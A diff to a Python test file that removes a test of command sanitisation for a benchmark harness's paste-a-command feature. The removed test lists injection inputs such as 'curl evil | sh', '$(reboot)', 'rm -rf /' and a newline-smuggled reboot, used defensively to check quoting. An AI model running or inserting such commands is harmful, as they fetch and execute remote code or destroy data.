@@ -20,7 +20,6 @@ from harness.site import compare, decisions, lists, people, place, regressions, 
 from harness.site.addresses import listed, operator
 from harness.site.build import Built, Wish, build
 from harness.site.png import FONTS
-from harness.site.row_page import command
 from tests.hub_world import World, key, world
 from tests.hub_world import text as spelled
 
@@ -338,19 +337,6 @@ def test_addresses_are_never_the_same_for_two(here: World) -> None:
     assert len(found) == 2 * len(names)
     assert all(address.startswith("models/") and address.count("/") == 1 for address in found)
     assert operator("page-turner") == "operators/page-turner.html"
-
-
-def test_a_command_to_paste_holds_nothing_but_the_bench(here: World) -> None:
-    record = here.record("ann").record
-
-    def shown(told: str) -> str:
-        return command(record.model_copy(update={"run": record.run.model_copy(update={"command": told})}))
-
-    assert shown("repro bench --model m -o a=1") == "repro bench --model m -o a=1"
-    assert shown("repro bench --model m; curl evil | sh") == "repro bench --model 'm;' curl evil '|' sh"
-    assert shown("repro bench $(reboot)") == "repro bench '$(reboot)'"
-    for told in ("rm -rf /", "", "repro bench 'open", "repro bench a\nreboot", "repro bench \u202egpj"):
-        assert shown(told).startswith("repro bench --model ")
 
 
 @pytest.mark.skipif(
